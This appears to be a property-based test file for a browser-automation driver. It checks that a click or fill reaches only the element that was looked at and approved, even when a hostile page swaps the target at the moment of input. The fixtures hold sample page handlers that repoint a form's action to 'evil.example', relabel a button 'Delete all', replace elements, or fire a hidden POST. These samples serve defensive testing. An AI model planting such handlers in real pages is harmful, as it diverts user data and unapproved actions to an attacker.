import type { EffectClass, LiveFacts, PageAct } from '@writ/dsl/contract'
import fc from 'fast-check'
import { afterAll, beforeAll, describe, expect, test, vi } from 'vitest'
import {
  BLIND_CLICK,
  CHANGES,
  HARMLESS,
  type HarmlessScene,
  MOMENTS,
  type Scene,
  type Sight,
  SUBJECTS,
  sceneScript
} from '../testing/hostile-page.ts'
import { TestPages } from '../testing/open-pages.ts'
import { target } from '../testing/target.ts'

let pages: TestPages
beforeAll(async () => {
  pages = await TestPages.start()
})
afterAll(() => pages.stop())

const ACTS: Readonly<Record<keyof typeof SUBJECTS, readonly [PageAct, EffectClass]>> = {
  button: [{ verb: 'click', target: target('button', 'Pay') }, 'transact'],
  input: [{ verb: 'click', target: target('button', 'Pay') }, 'transact'],
  link: [{ verb: 'click', target: target('link', 'Pay') }, 'transact'],
  box: [{ verb: 'check', target: target('checkbox', 'Pay') }, 'transact'],
  field: [{ verb: 'fill', target: target('textbox', 'Pay'), text: '12' }, 'transact']
}

const keysOf = <T extends object>(of: T) => Object.keys(of) as (keyof T & string)[]

const scenes = <C extends string>(changes: readonly C[]) =>
  fc.record({
    subject: fc.constantFrom(...keysOf(SUBJECTS)),
    shadow: fc.boolean(),
    moment: fc.constantFrom(...MOMENTS),
    phase: fc.constantFrom('window' as const, 'target' as const),
    change: fc.constantFrom(...changes)
  })

/**
 * Which of the events went to something other than what stood there before. A field that the page draws anew under the hand
 * is followed by its words; of all else a copy is something else.
 */
const strayed = (before: Sight, seen: readonly Sight[]): readonly Sight[] =>
  seen.filter(
    (sight) =>
      (sight.id !== before.id && !/input$/.test(sight.type)) ||
      sight.role !== before.role ||
      sight.name !== before.name ||
      sight.leads !== before.leads ||
      sight.target !== before.target
  )

/** What a person approved, in the words of the eye. */
const ofFacts = ({ form, link, linkTarget, name }: LiveFacts): Partial<Sight> => ({
  name,
  leads: form ? `${form.action} ${form.method}` : (link ?? ''),
  target: form?.target ?? linkTarget ?? ''
})

const BY_ITSELF: readonly string[] = ['timer', 'frame', 'resize', 'lookup']

const sights = 'JSON.stringify([window.before, window.seen])'

describe('whatever a page changes at whatever moment', () => {
  test('no event reaches anything but what was looked at', async () => {
    const { page, act, lookAt } = await pages.open('')
    await fc.assert(
      fc.asyncProperty(scenes(keysOf(CHANGES)), fc.boolean(), async (scene: Scene, approved) => {
        await page.evaluate(sceneScript(scene))
        const [aimed, effect] = ACTS[scene.subject]
        const facts = approved ? await lookAt(aimed, effect) : undefined
        const outcome = await act(aimed, {
          class: effect,
          settleMs: 20,
          ...(facts?.ok && { approved: facts.value })
        })
        const [before, seen] = JSON.parse(await page.evaluate<string>(sights)) as [Sight, Sight[]]
        const [first = before] = seen
        // What changes by itself may have changed before the act began: then the first event tells what was looked at.
        const looked = BY_ITSELF.includes(scene.moment) ? first : before
        const atStart = facts?.ok ? { ...looked, ...ofFacts(facts.value) } : looked
        expect([scene, outcome, strayed(atStart, seen)]).toEqual([scene, outcome, []])
      }),
      { numRuns: 300 }
    )
  })

  test('what does not matter stops nothing', async () => {
    const { page, act } = await pages.open('')
    await fc.assert(
      fc.asyncProperty(scenes(keysOf(HARMLESS)), async (scene: HarmlessScene) => {
        await page.evaluate(sceneScript(scene))
        const [aimed, effect] = ACTS[scene.subject]
        expect([scene, await act(aimed, { class: effect, settleMs: 500 })]).toEqual([scene, { kind: 'done' }])
        const [, seen] = JSON.parse(await page.evaluate<string>(sights)) as [Sight, Sight[]]
        expect(seen.filter(({ type }) => type === (scene.subject === 'field' ? 'input' : 'click'))).toHaveLength(1)
      }),
      { numRuns: 60 }
    )
  })

  test.each(keysOf(CHANGES))('a driver without the last look is led astray: %s', async (change) => {
    const { page } = await pages.open('')
    let led = 0
    for (const subject of keysOf(SUBJECTS)) {
      await page.evaluate(sceneScript({ subject, shadow: false, moment: 'pointerdown', phase: 'target', change }))
      await page.evaluate(BLIND_CLICK)
      const [before, seen] = JSON.parse(await page.evaluate<string>(sights)) as [Sight, Sight[]]
      led += strayed(before, seen).length
    }
    expect(led).toBeGreaterThan(0)
  })
})

describe('the last look', () => {
  const swaps: readonly (readonly [string, string])[] = [
    ['the action', "this.form.setAttribute('action', 'https://evil.example/')"],
    ["the button's own action", "this.setAttribute('formaction', 'https://evil.example/')"],
    ['the method', "this.form.setAttribute('method', 'get')"],
    ['the name', "this.textContent = 'Delete all'"],
    ['the element', 'this.replaceWith(this.cloneNode(true))'],
    ['the form it belongs to', "this.setAttribute('form', 'other')"]
  ]
  for (const when of ['pointerdown', 'mousedown', 'mouseup', 'focus']) {
    test.each(swaps)(`catches a ${when} handler that swaps %s`, async (_what, swap) => {
      const { act, requests } = await pages.open(
        `<form id=other method=post action=/other></form><form method=post action=/save><button on${when}="${swap}">Save</button></form>`
      )
      const outcome = await act({ verb: 'click', target: target('button', 'Save') }, { class: 'submit' })
      // The form was not sent; what the handler did besides, nobody knows.
      expect(outcome).toEqual({ kind: 'unknown' })
      expect(requests).toEqual([])
    })
  }

  test.each([
    ['no form', '<button>Save</button>'],
    ['a form', '<form method=post action=/save><button>Save</button></form>']
  ])('never says that an act was not done which a handler of its press did, in %s', async (_where, html) => {
    const { act, lookAt, requests } = await pages.open(`<div>${html}</div><script>
      const b = document.querySelector('button')
      b.onpointerdown = () => { fetch('/sent', { method: 'POST' }); b.remove() }</script>`)
    const save = { verb: 'click', target: target('button', 'Save') } as const
    const seen = await lookAt(save, 'submit')
    if (!seen.ok) throw new Error('not seen')
    expect(await act(save, { class: 'submit', approved: seen.value })).toEqual({ kind: 'unknown' })
    await vi.waitFor(() => expect(requests).toEqual(['POST /sent']))
  })
})
